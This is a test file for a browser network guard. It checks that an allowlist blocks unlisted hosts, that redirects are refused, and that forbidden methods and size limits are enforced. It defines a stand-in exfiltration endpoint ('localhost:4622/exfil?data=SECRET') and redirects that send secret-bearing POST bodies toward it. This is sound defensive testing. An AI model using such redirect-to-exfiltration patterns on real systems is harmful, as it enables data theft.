import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import type { NetPolicy, NetRequest } from './net';
import { fetchAsync, fetchSync } from './net';

/**
 * A fake network with the browser's rules: fetch follows redirects unless `redirect` is
 * 'manual' (then an opaque redirect, Location hidden) or 'error'; a CORS-mode response without
 * CORS headers, redirects included, is a TypeError; no-cors answers are opaque, and a no-cors
 * request that does not follow redirects is refused before it is sent; synchronous XHR always
 * follows. Every request that leaves is recorded by host, so a test can prove that none
 * reached an unlisted one.
 */
interface Route {
  status: number;
  cors: boolean;
  location?: string;
  body?: string;
}

let routes: Map<string, Route>;
let hits: { host: string; method: string; body: string | null; via: 'fetch' | 'xhr'; mode?: string }[];

const decode = (b: BodyInit | Uint8Array | null | undefined) => (b instanceof Uint8Array ? new TextDecoder().decode(b) : b == null ? null : String(b));

function route(url: string): Route {
  const r = routes.get(url);
  if (!r) throw new TypeError(`Failed to fetch (nothing at ${url})`); // refused connection
  return r;
}

async function fakeFetch(input: string | URL | Request, init: RequestInit = {}): Promise<Response> {
  let url = String(input);
  let method = init.method ?? 'GET';
  let body = decode(init.body as Uint8Array | null);
  if (init.mode === 'no-cors' && (init.redirect ?? 'follow') !== 'follow') throw new TypeError('Failed to fetch');
  for (let hop = 0; hop < 20; hop++) {
    hits.push({ host: new URL(url).host, method, body, via: 'fetch', mode: init.mode });
    const r = route(url);
    if (init.mode !== 'no-cors' && !r.cors) throw new TypeError('Failed to fetch');
    if (r.location) {
      if (init.redirect === 'manual') return { type: 'opaqueredirect', status: 0, body: null, headers: new Headers() } as unknown as Response;
      if (init.redirect === 'error') throw new TypeError('Failed to fetch');
      if (r.status === 303 || ((r.status === 301 || r.status === 302) && method === 'POST')) {
        method = 'GET';
        body = null;
      }
      url = new URL(r.location, url).href;
      continue;
    }
    if (init.mode === 'no-cors') return { type: 'opaque', status: 0, body: null, headers: new Headers() } as unknown as Response;
    return new Response(r.body ?? '', { status: r.status, headers: { 'content-type': 'text/plain' } });
  }
  throw new TypeError('too many redirects');
}

class FakeXhr {
  static created = 0;
  status = 0;
  response: ArrayBuffer | null = null;
  responseType = '';
  responseURL = '';
  private method = 'GET';
  private url = '';
  async: boolean | undefined;
  headers: Record<string, string> = {};
  constructor() {
    FakeXhr.created++;
  }
  open(method: string, url: string, async: boolean) {
    this.method = method;
    this.url = url;
    this.async = async;
  }
  setRequestHeader(name: string, value: string) {
    this.headers[name] = value;
  }
  send(body: Uint8Array | null) {
    let url = this.url;
    for (;;) {
      hits.push({ host: new URL(url).host, method: this.method, body: decode(body), via: 'xhr' });
      const r = route(url);
      if (!r.cors) throw new DOMException('Failed to load', 'NetworkError');
      if (!r.location) {
        this.status = r.status;
        this.responseURL = url;
        this.response = new TextEncoder().encode(r.body ?? '').buffer;
        return;
      }
      url = new URL(r.location, url).href;
    }
  }
  getAllResponseHeaders() {
    return 'Content-Type: text/plain\r\nX-Thing: 1\r\n';
  }
}

function policy(allowlist: string[], maxResponseBytes = 1024) {
  const blocked: [string, string][] = [];
  const p: NetPolicy = { allowlist, maxResponseBytes, onBlocked: (host, what) => blocked.push([host, what]) };
  return { policy: p, blocked };
}

const req = (url: string, method = 'GET', body: string | null = null): NetRequest => ({ url, method, headers: {}, body: body === null ? null : new TextEncoder().encode(body) });

const ALLOWED = 'http://127.0.0.1:4621';
const EXFIL = 'http://localhost:4622/exfil?data=SECRET';
const text = (r: Awaited<ReturnType<typeof fetchAsync>>) => (r.ok ? new TextDecoder().decode(r.body) : r.message);

beforeEach(() => {
  hits = [];
  FakeXhr.created = 0;
  routes = new Map<string, Route>([
    [`${ALLOWED}/ok`, { status: 200, cors: true, body: 'fine' }],
    [`${ALLOWED}/big`, { status: 200, cors: true, body: 'x'.repeat(2000) }],
    [`${ALLOWED}/no-cors`, { status: 200, cors: false, body: 'hidden' }],
    [EXFIL, { status: 200, cors: true, body: 'exfiltrated' }],
  ]);
  for (const code of [301, 302, 303, 307, 308]) {
    routes.set(`${ALLOWED}/redirect/${code}`, { status: code, cors: true, location: EXFIL });
    routes.set(`${ALLOWED}/redirect-no-cors/${code}`, { status: code, cors: false, location: EXFIL });
  }
  routes.set(`${ALLOWED}/redirect-home`, { status: 302, cors: true, location: '/ok' });
  vi.stubGlobal('fetch', vi.fn(fakeFetch));
  vi.stubGlobal('XMLHttpRequest', FakeXhr);
});

afterEach(() => {
  vi.unstubAllGlobals();
});

describe('fakes behave like the browser (so the tests below mean something)', () => {
  it('an unguarded fetch and XHR do follow the redirect to the unlisted host', async () => {
    await fetch(`${ALLOWED}/redirect/307`, { method: 'POST', body: new TextEncoder().encode('payload'), mode: 'cors' });
    const xhr = new FakeXhr();
    xhr.open('GET', `${ALLOWED}/redirect/302`, false);
    xhr.send(null);
    expect(hits.map((h) => [h.via, h.host, h.body])).toEqual([
      ['fetch', '127.0.0.1:4621', 'payload'],
      ['fetch', 'localhost:4622', 'payload'],
      ['xhr', '127.0.0.1:4621', null],
      ['xhr', 'localhost:4622', null],
    ]);
  });
});

describe('fetchAsync', () => {
  it('returns the body of an allowed, non-redirecting request', async () => {
    const { policy: p, blocked } = policy(['127.0.0.1:4621']);
    const r = await fetchAsync(req(`${ALLOWED}/ok`), p);
    expect(r).toMatchObject({ ok: true, status: 200, headers: { 'content-type': 'text/plain' } });
    expect(text(r)).toBe('fine');
    expect(blocked).toEqual([]);
    expect(vi.mocked(fetch).mock.calls[0]?.[1]).toMatchObject({ redirect: 'manual', credentials: 'omit', mode: 'cors' });
  });

  for (const code of [301, 302, 303, 307, 308]) {
    it(`refuses a ${code} redirect without reaching its target (POST body included)`, async () => {
      const { policy: p, blocked } = policy(['127.0.0.1:4621']);
      const r = await fetchAsync(req(`${ALLOWED}/redirect/${code}`, 'POST', 'SECRET'), p);
      expect(r).toMatchObject({ ok: false, reason: 'redirect' });
      expect(text(r)).toContain('HTTP request to 127.0.0.1:4621 was answered with a redirect, which is not followed');
      expect(hits.map((h) => h.host)).toEqual(['127.0.0.1:4621']);
      expect(blocked).toEqual([['', `${ALLOWED}/redirect/${code} (answered with a redirect, not followed)`]]);
    });
  }

  it('refuses even a redirect that stays on the allowed host (its target is hidden, so it cannot be checked)', async () => {
    const r = await fetchAsync(req(`${ALLOWED}/redirect-home`), policy(['127.0.0.1:4621']).policy);
    expect(r).toMatchObject({ ok: false, reason: 'redirect' });
    expect(hits).toHaveLength(1);
  });

  it('a redirect without CORS headers: one request to the allowed host, no probe, a message that names both causes', async () => {
    const { policy: p, blocked } = policy(['127.0.0.1:4621']);
    const r = await fetchAsync(req(`${ALLOWED}/redirect-no-cors/302`), p);
    expect(r).toMatchObject({ ok: false, reason: 'network' });
    expect(text(r)).toContain('HTTP request to 127.0.0.1:4621 failed');
    expect(hits.map((h) => [h.host, h.method, h.mode])).toEqual([['127.0.0.1:4621', 'GET', 'cors']]);
    expect(blocked).toEqual([]);
  });

  it('a server without CORS or an unreachable one: the message names the host asked for and both causes', async () => {
    for (const path of ['/no-cors', '/nothing-here']) {
      const r = await fetchAsync(req(`${ALLOWED}${path}`), policy(['127.0.0.1:4621']).policy);
      expect(r).toMatchObject({ ok: false, reason: 'network' });
      expect(text(r)).toContain('HTTP request to 127.0.0.1:4621 failed (Failed to fetch');
      expect(text(r)).toContain('could not be reached, or it does not allow cross-origin requests (CORS');
      expect(text(r)).not.toContain('redirected');
    }
    expect(fetch).toHaveBeenCalledTimes(2);
  });

  it('refuses a host outside the allowlist before sending, and names it', async () => {
    const { policy: p, blocked } = policy(['127.0.0.1:4621']);
    const r = await fetchAsync(req(EXFIL), p);
    expect(r).toMatchObject({ ok: false, reason: 'blocked' });
    expect(text(r)).toContain('HTTP request to localhost:4622 is not allowed');
    expect(blocked).toEqual([['localhost:4622', EXFIL]]);
    expect(hits).toEqual([]);
  });

  for (const method of ['TRACE', 'track', 'CONNECT']) {
    it(`reports the forbidden method ${method} as such, with no probe and no blocked line`, async () => {
      const { policy: p, blocked } = policy(['127.0.0.1:4621']);
      const r = await fetchAsync(req(`${ALLOWED}/ok`, method), p);
      expect(r).toMatchObject({ ok: false, reason: 'forbidden-method' });
      expect(text(r)).toContain(`HTTP method ${method.toUpperCase()} cannot be used`);
      expect(text(r)).not.toContain('CORS');
      expect(fetch).not.toHaveBeenCalled();
      expect(blocked).toEqual([]);
    });
  }

  it('refuses userinfo and non-http URLs with a specific message', async () => {
    const p = policy(['*']).policy;
    expect(text(await fetchAsync(req('http://127.0.0.1:4621@localhost:4622/'), p))).toContain('contains a user name or password');
    expect(text(await fetchAsync(req('ftp://127.0.0.1/'), p))).toContain('is not an http or https URL');
    expect(text(await fetchAsync(req('nope'), p))).toContain('is not a valid URL');
    expect(fetch).not.toHaveBeenCalled();
  });

  it('stops reading at the size cap', async () => {
    const r = await fetchAsync(req(`${ALLOWED}/big`), policy(['127.0.0.1:4621'], 1000).policy);
    expect(r).toMatchObject({ ok: false, reason: 'too-large', message: 'HTTP response from 127.0.0.1:4621 is larger than the 1000-byte limit.' });
  });
});

describe('fetchSync', () => {
  it('does not send at all unless every host is allowed, since XHR follows redirects unseen', () => {
    const { policy: p, blocked } = policy(['127.0.0.1:4621', '*.example.com']);
    for (const path of ['/ok', '/redirect/307']) {
      const r = fetchSync(req(`${ALLOWED}${path}`, 'POST', 'SECRET'), p);
      expect(r).toMatchObject({ ok: false, reason: 'sync-unsafe' });
      expect(text(r)).toContain('HTTP request to 127.0.0.1:4621 was not sent: synchronous HTTP');
      expect(text(r)).toContain('allow every host with "*"');
    }
    expect(FakeXhr.created).toBe(0);
    expect(hits).toEqual([]);
    expect(blocked).toEqual([
      ['', `${ALLOWED}/ok (not sent: synchronous HTTP cannot stop a redirect to a host outside "Allowed hosts")`],
      ['', `${ALLOWED}/redirect/307 (not sent: synchronous HTTP cannot stop a redirect to a host outside "Allowed hosts")`],
    ]);
  });

  it('a host outside the allowlist is refused as blocked first, naming it', () => {
    const { policy: p, blocked } = policy(['127.0.0.1:4621']);
    expect(fetchSync(req(EXFIL), p)).toMatchObject({ ok: false, reason: 'blocked' });
    expect(blocked).toEqual([['localhost:4622', EXFIL]]);
    expect(FakeXhr.created).toBe(0);
  });

  it('with "*" it sends a synchronous XHR and returns status, headers and body', () => {
    const r = fetchSync({ ...req(`${ALLOWED}/ok`), headers: { 'x-k': 'v' } }, policy(['*']).policy);
    expect(r).toMatchObject({ ok: true, status: 200, headers: { 'content-type': 'text/plain', 'x-thing': '1' } });
    expect(text(r)).toBe('fine');
    expect(hits.map((h) => [h.via, h.host])).toEqual([['xhr', '127.0.0.1:4621']]);
  });

  it('with "*" a failure says the host may be one it redirected to', () => {
    const r = fetchSync(req(`${ALLOWED}/redirect-no-cors/302`), policy(['*']).policy);
    expect(r).toMatchObject({ ok: false, reason: 'network' });
    expect(text(r)).toContain('HTTP request to 127.0.0.1:4621 (or a host it redirected to) failed');
  });

  it('reports a forbidden method without creating an XHR', () => {
    const { policy: p, blocked } = policy(['*']);
    expect(fetchSync(req(`${ALLOWED}/ok`, 'TRACE'), p)).toMatchObject({ ok: false, reason: 'forbidden-method' });
    expect(FakeXhr.created).toBe(0);
    expect(blocked).toEqual([]);
  });
});
